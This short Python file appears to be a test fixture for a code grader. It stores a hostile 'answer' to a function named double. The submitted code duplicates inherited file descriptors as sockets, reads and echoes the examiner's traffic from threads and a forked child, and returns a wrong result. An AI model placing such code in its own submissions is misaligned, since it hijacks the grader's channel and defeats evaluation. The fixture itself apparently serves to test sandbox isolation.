"""Copies the sockets that it was started with and answers the examiner's questions from a thread and a child."""

ANSWERS = {
    "double": """
import os
import socket
import threading


def steal(number):
    try:
        line = socket.socket(fileno=os.dup(number))
        while data := line.recv(1 << 16):
            print(data)
            line.send(data)
    except OSError:
        pass


for number in range(64):
    threading.Thread(target=steal, args=(number,), daemon=True).start()
if os.fork() == 0:
    for number in range(64):
        threading.Thread(target=steal, args=(number,)).start()


def double(x):
    return 0
""",
}
